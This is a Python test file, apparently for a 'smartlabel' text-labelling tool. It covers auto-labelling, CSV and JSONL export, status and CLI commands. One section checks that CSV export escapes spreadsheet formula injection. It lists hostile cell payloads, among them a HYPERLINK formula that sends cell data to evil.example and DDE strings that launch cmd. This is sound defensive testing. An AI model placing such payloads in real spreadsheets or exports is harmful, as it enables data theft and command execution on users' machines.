"""autolabel, export and status, on SQLite and on a real PostgreSQL."""

from __future__ import annotations

import csv
import json
import pickle

import pytest
from sqlalchemy import text
from typer.testing import CliRunner

from smartlabel.cli import app
from smartlabel.db import make_engine
from smartlabel.errors import SmartlabelError
from smartlabel.export import autolabel, export
from smartlabel.modelstore import NoModelError
from smartlabel.status import status_data
from smartlabel import modelstore
from smartlabel.store import runs as store_runs

from test_orchestrator import orchestrator, rows, runs
from text_corpus import label_with_queue, queue_settings, seed_corpus


@pytest.fixture
def project(db_url, engine_for, tmp_path):
    """60 posts, 30 labelled by three workers, one post with a tie, one model run."""
    ids, truth = seed_corpus(db_url, 20)
    truth = dict(zip(ids, truth))
    engine = engine_for(db_url)
    labelled = label_with_queue(db_url, truth, per_worker=10)
    tie = next(i for i in ids if i not in {r[0] for r in labelled})
    with engine.begin() as conn:  # two imported votes that disagree: no agreed label
        for worker, label in (("imp1", "Advocacy"), ("imp2", "Others")):
            conn.execute(text("INSERT INTO labels (item_id, label, worker_id, created_at, handout_reason) "
                              "VALUES (:i, :l, :w, CURRENT_TIMESTAMP, 'import')"), {"i": tie, "l": label, "w": worker})
        conn.execute(text("UPDATE items SET label_count = 2, done = :t WHERE id = :i"), {"i": tie, "t": True})
        # a retracted label that disagrees with a labelled post's label: every reader must ignore
        # it (counted, it would turn that post into a tie and add a vote to the export)
        first, label, _, _ = labelled[0]
        other = "Others" if label != "Others" else "Advocacy"
        conn.execute(text("INSERT INTO labels (item_id, label, worker_id, created_at, retracted_at, retracted_by) "
                          "VALUES (:i, :l, 'zed', CURRENT_TIMESTAMP, CURRENT_TIMESTAMP, 'zed')"),
                     {"i": first, "l": other})
    models = tmp_path / "models"
    result = orchestrator(db_url, models).tick()
    assert result.status == "ok"
    settings = queue_settings(db_url, models_dir=str(models))
    return {"url": db_url, "engine": engine, "truth": truth, "labelled": labelled, "tie": tie,
            "models": models, "settings": settings, "run": result.run_id}


def test_autolabel_scores_every_post_without_agreed_label(project):
    p = project
    engine = p["engine"]
    result = autolabel(p["settings"], progress=False)
    assert result.n_scored == 60 - 30  # 29 unlabelled posts + the tie
    run = runs(engine)[-1]
    assert run["id"] == result.run_id and run["kind"] == "autolabel" and run["acquisition"] == "certainty" and run["status"] == "ok"
    assert run["model_path"] == str(modelstore.files(p["models"])[-1]) and run["n_scored"] == 30
    assert run["cv_accuracy"] == pytest.approx(runs(engine)[0]["cv_accuracy"])
    preds = rows(engine, "SELECT * FROM predictions WHERE run_id = :r", r=result.run_id)
    labelled_ids = {r[0] for r in p["labelled"]}
    assert {x["item_id"] for x in preds} == (set(p["truth"]) - labelled_ids)
    assert p["tie"] in {x["item_id"] for x in preds}
    assert sum(x["predicted_label"] == p["truth"][x["item_id"]] for x in preds) >= 27
    # the queue keeps following the orchestrator's run
    assert store_runs.current_id(engine) == p["run"]


def test_export_csv_and_jsonl(project, tmp_path):
    p = project
    auto = autolabel(p["settings"], progress=False)
    conf = {r["item_id"]: r["confidence"] for r in
            rows(p["engine"], "SELECT item_id, confidence FROM predictions WHERE run_id = :r", r=auto.run_id)}
    human = {i: (label, worker) for i, label, worker, _ in p["labelled"]}

    res = export(tmp_path / "out.csv", p["settings"], progress=False)
    assert (res.rows, res.human, res.model, res.none) == (60, 30, 30, 0)
    assert f"auto-label run {auto.run_id}" in res.source
    with open(tmp_path / "out.csv", newline="", encoding="utf-8") as fh:
        table = list(csv.DictReader(fh))
    assert [int(r["id"]) for r in table] == sorted(p["truth"])
    for r in table:
        i = int(r["id"])
        if i in human:
            label, worker = human[i]
            assert (r["label_source"], r["final_label"], r["agreed_label"]) == ("human", label, label)
            assert r["human_labels"] == f"{worker}: {label}" and r["confidence"] == "1.0" and r["model_run"] == ""
        else:
            assert r["label_source"] == "model" and r["agreed_label"] == ""
            assert int(r["model_run"]) == auto.run_id and float(r["confidence"]) == pytest.approx(conf[i])
            assert r["final_label"] in ("Advocacy", "Others", "Personal Stories")
    tie = next(r for r in table if int(r["id"]) == p["tie"])
    assert tie["human_labels"] == "imp1: Advocacy; imp2: Others" and tie["n_labels"] == "2"

    res = export(tmp_path / "out.jsonl", p["settings"], progress=False)
    lines = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()]
    assert len(lines) == 60 and res.rows == 60
    by_id = {r["id"]: r for r in lines}
    t = by_id[p["tie"]]
    assert t["human_labels"] == [{"worker_id": "imp1", "label": "Advocacy"}, {"worker_id": "imp2", "label": "Others"}]
    assert t["agreed_label"] is None and t["label_source"] == "model" and t["model_run"] == auto.run_id
    model_rows = [r for r in lines if r["label_source"] == "model"]
    assert sum(r["final_label"] == p["truth"][r["id"]] for r in model_rows) >= 27
    assert not list(tmp_path.glob(".*.tmp"))


def test_export_without_autolabel_uses_the_current_run_and_rejects_bad_names(project, tmp_path):
    p = project
    res = export(tmp_path / "out.jsonl", p["settings"], progress=False)
    assert f"current run {p['run']}" in res.source
    # the current run scored the open posts; the tie is done, so it has no label at all
    assert (res.human, res.model, res.none) == (30, 29, 1)
    with pytest.raises(SmartlabelError, match="name the file .csv or .jsonl"):
        export(tmp_path / "out.xlsx", p["settings"], progress=False)
    assert not (tmp_path / "out.xlsx").exists()


def test_status_and_cli(project, tmp_path):
    p = project
    data = status_data(p["engine"])
    assert data["counts"] == {"items": 60, "labelled": 31, "agreed": 30, "done": 31, "leased": 0,
                              "labels": 32, "labellers": 5, "retracted": 1}
    assert data["current_run_id"] == p["run"] and data["latest_ok"]["id"] == p["run"]
    agreed = sum(v["agreed"] for v in data["per_class"].values())
    assert agreed == 30 and data["per_class"]["Advocacy"]["labels"] >= 1
    env = {"DATABASE_URL": p["url"], "MODELS_DIR": str(p["models"]),
           "LABELS": '["Advocacy","Personal Stories","Others","Factual Queries/Sharing"]'}
    runner = CliRunner()
    out = runner.invoke(app, ["status"], env=env)
    assert out.exit_code == 0, out.output
    assert "Posts" in out.output and "Labels per class" in out.output
    assert "Factual Queries/Sharing" in out.output  # a class nobody used yet is listed with 0
    run = runs(p["engine"])[-1]
    assert f"{run['cv_accuracy']:.3f}" in out.output and "lr/margin" in out.output  # ACQUISITION's default
    assert f"run {run['id']} (ok)" in out.output
    out = runner.invoke(app, ["autolabel", "--no-progress"], env=env)
    assert out.exit_code == 0 and "auto-labelled 30 post(s)" in out.output
    out = runner.invoke(app, ["status"], env=env)
    assert "lr/autolabel" in out.output and f"follows run {p['run']}" in out.output
    out = runner.invoke(app, ["export", "--out", str(tmp_path / "x.csv"), "--no-progress"], env=env)
    assert out.exit_code == 0 and "wrote 60 post(s)" in out.output and (tmp_path / "x.csv").exists()
    for cmd in ("orchestrate", "autolabel", "export", "status"):
        assert runner.invoke(app, [cmd, "--help"]).exit_code == 0


def test_autolabel_without_a_model_file_says_what_to_do(sqlite_url, tmp_path):
    seed_corpus(sqlite_url, 2)
    settings = queue_settings(sqlite_url, models_dir=str(tmp_path / "none"))
    with pytest.raises(NoModelError, match="orchestrate --once"):
        autolabel(settings, progress=False)
    out = CliRunner().invoke(app, ["autolabel"], env={"DATABASE_URL": sqlite_url, "MODELS_DIR": str(tmp_path / "none")})
    assert out.exit_code == 1 and "error: no model file" in out.output
    bad = tmp_path / "bad"
    bad.mkdir()
    (bad / "2026-01-01T00-00-00Z 0.9000.pkl").write_bytes(pickle.dumps({"not": "a model"}))
    with pytest.raises(NoModelError, match="does not hold a fitted classifier"):
        autolabel(queue_settings(sqlite_url, models_dir=str(bad)), progress=False)
    assert rows(make_engine(sqlite_url), "SELECT COUNT(*) AS n FROM model_runs")[0]["n"] == 0


# --- safe CSV (spreadsheet formula injection) ------------------------------------------------

DANGEROUS = ['=HYPERLINK("http://evil.example/?q="&A1,"click me")', "+cmd|' /C calc'!A0", "-5 degrees outside",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\tTabbed =1+1", "\rCarriage =1+1"]


def test_csv_cells_that_a_spreadsheet_would_run_get_a_leading_quote(db_url, engine_for, tmp_path):
    """OWASP's advice: = + - @ tab CR at the start of a cell -> a leading ', in every column
    (titles, bodies, a labeller named '=...'); numbers stay numbers; --raw and JSON Lines keep
    the text as it is."""
    from helpers import seed_items
    from text_corpus import queue_settings

    from smartlabel.queue import LabelQueue

    engine = engine_for(db_url)
    ids = seed_items(engine, len(DANGEROUS) + 1)
    with engine.begin() as conn:
        for item_id, title in zip(ids, DANGEROUS + ["Plain title"]):
            conn.execute(text("UPDATE items SET title = :t, selftext = :b WHERE id = :i"),
                         {"t": title, "b": "=1+1 in the body" if title == "Plain title" else "body", "i": item_id})
    settings = queue_settings(db_url)
    q = LabelQueue(db_url, '=HYPERLINK("x")', settings=settings)
    item_id, _ = q.pop()
    q.submit(item_id, "Advocacy")

    res = export(tmp_path / "safe.csv", settings, progress=False)
    with open(tmp_path / "safe.csv", newline="", encoding="utf-8") as fh:
        table = {int(r["id"]): r for r in csv.DictReader(fh)}
    for item, title in zip(ids, DANGEROUS):
        assert table[item]["title"] == "'" + title
    plain = table[ids[-1]]
    assert plain["title"] == "Plain title" and plain["selftext"] == "'=1+1 in the body"
    assert table[item_id]["human_labels"] == "'=HYPERLINK(\"x\"): Advocacy"
    assert table[item_id]["n_labels"] == "1" and table[item_id]["confidence"] == "1.0"  # numbers untouched
    assert res.escaped == len(DANGEROUS) + 2 and "leading '" in res.summary()

    out = CliRunner().invoke(app, ["export", "--out", str(tmp_path / "raw.csv"), "--raw", "--no-progress"],
                             env={"DATABASE_URL": db_url, "LABELS": '["Advocacy","Others","Personal Stories"]'})
    assert out.exit_code == 0, out.output
    with open(tmp_path / "raw.csv", newline="", encoding="utf-8") as fh:
        raw = {int(r["id"]): r for r in csv.DictReader(fh)}
    assert [raw[i]["title"] for i in ids[:-1]] == DANGEROUS
    assert raw[item_id]["human_labels"] == '=HYPERLINK("x"): Advocacy' and "leading '" not in out.output

    export(tmp_path / "same.jsonl", settings, progress=False)
    lines = {r["id"]: r for r in map(json.loads, (tmp_path / "same.jsonl").read_text(encoding="utf-8").splitlines())}
    assert [lines[i]["title"] for i in ids[:-1]] == DANGEROUS
    assert lines[item_id]["human_labels"] == [{"worker_id": '=HYPERLINK("x")', "label": "Advocacy"}]


def test_an_imported_worker_id_starting_with_equals_is_escaped_too(sqlite_url, tmp_path):
    from smartlabel.importer import import_file
    from text_corpus import queue_settings

    src = tmp_path / "posts.csv"
    src.write_text('title,selftext,label,worker_id\nfirst post,body,Advocacy,"=cmd|\' /C calc\'!A0"\n',
                   encoding="utf-8")
    settings = queue_settings(sqlite_url)
    import_file(src, sqlite_url, settings=settings, progress=False)
    export(tmp_path / "out.csv", settings, progress=False)
    with open(tmp_path / "out.csv", newline="", encoding="utf-8") as fh:
        (row,) = list(csv.DictReader(fh))
    assert row["human_labels"] == "'=cmd|' /C calc'!A0: Advocacy"


def test_autolabel_run_survives_any_number_of_retrains_until_a_newer_one(project, tmp_path):
    """Prune keeps the newest 5 training runs plus the latest auto-label run: after 6 more
    retrains the real `smartlabel export` still carries the auto-label run's labels."""
    import os
    import subprocess
    import sys

    from test_orchestrator import ROOT, cli_env
    from smartlabel.orchestrator import KEEP_PREDICTION_RUNS

    p = project
    auto = autolabel(p["settings"], progress=False)
    predicted = {r["item_id"]: r["predicted_label"] for r in
                 rows(p["engine"], "SELECT item_id, predicted_label FROM predictions WHERE run_id = :r", r=auto.run_id)}
    assert len(predicted) == 30
    orch = orchestrator(p["url"], p["models"])
    for _ in range(KEEP_PREDICTION_RUNS + 1):
        assert orch.retrain().status == "ok"
    left = {r["run_id"] for r in rows(p["engine"], "SELECT DISTINCT run_id FROM predictions")}
    train_ids = [r["id"] for r in runs(p["engine"]) if r["kind"] == "train"]
    assert left == set(train_ids[-KEEP_PREDICTION_RUNS:]) | {auto.run_id}  # the first training run is gone

    out = subprocess.run([sys.executable, "-m", "smartlabel", "export", "--out", str(tmp_path / "x.jsonl"),
                          "--no-progress"], env=cli_env(p["url"], p["models"]), capture_output=True, text=True,
                         timeout=120, cwd=tmp_path)
    assert out.returncode == 0, out.stderr
    assert f"model labels from auto-label run {auto.run_id}" in out.stdout
    lines = [json.loads(line) for line in (tmp_path / "x.jsonl").read_text(encoding="utf-8").splitlines()]
    model_rows = {r["id"]: r for r in lines if r["label_source"] == "model"}
    assert set(model_rows) == set(predicted)
    assert all(r["model_run"] == auto.run_id and r["final_label"] == predicted[i] for i, r in model_rows.items())

    # a newer auto-label run replaces it: the next prune drops the older one
    newer = autolabel(p["settings"], progress=False)
    assert orch.retrain().status == "ok"
    left = {r["run_id"] for r in rows(p["engine"], "SELECT DISTINCT run_id FROM predictions")}
    assert newer.run_id in left and auto.run_id not in left
